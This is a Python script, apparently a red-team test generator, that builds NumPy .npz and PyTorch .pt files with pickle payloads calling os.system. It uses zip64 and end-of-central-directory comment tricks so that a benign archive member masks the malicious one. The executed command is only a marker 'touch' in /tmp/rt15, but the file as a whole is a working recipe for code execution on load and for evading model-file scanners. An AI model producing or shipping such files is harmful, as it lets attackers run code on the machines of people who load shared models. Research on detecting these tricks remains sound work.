import numpy as np, io, zipfile, torch
from zipbuild import *
def npy_obj(tag):
    class P:
        def __reduce__(self):
            import os; return (os.system, ("touch /tmp/rt15/pwned_%s" % tag,))
    a = np.empty(1, dtype=object); a[0] = P()
    b = io.BytesIO(); np.save(b, a, allow_pickle=True); return b.getvalue()
def npy_ok():
    b = io.BytesIO(); np.save(b, np.zeros(3)); return b.getvalue()
open("fn_npz_zip64.npz","wb").write(zip64_redirect([("arr_0.npy", npy_ok())], [("arr_0.npy", npy_obj("npz_zip64"))]))
open("fn_npz_eocd_comment.npz","wb").write(eocd_comment_redirect([("arr_0.npy", npy_ok())], [("arr_0.npy", npy_obj("npz_eocd_comment"))]))
# torch
def torch_members(pkl=None):
    buf = io.BytesIO(); torch.save({"w": torch.zeros(2)}, buf)
    zin = zipfile.ZipFile(io.BytesIO(buf.getvalue()))
    out = []
    for i in zin.infolist():
        d = zin.read(i.filename)
        if pkl is not None and i.filename.endswith("data.pkl"): d = pkl
        out.append((i.filename, d))
    return out
def evil(tag): return b"\x80\x02cos\nsystem\n(S'touch /tmp/rt15/pwned_%s'\ntR." % tag.encode()
open("fn_torch_zip64.pt","wb").write(zip64_redirect(torch_members(), torch_members(evil("torch_zip64"))))
open("fn_torch_eocd_comment.pt","wb").write(eocd_comment_redirect(torch_members(), torch_members(evil("torch_eocd_comment"))))
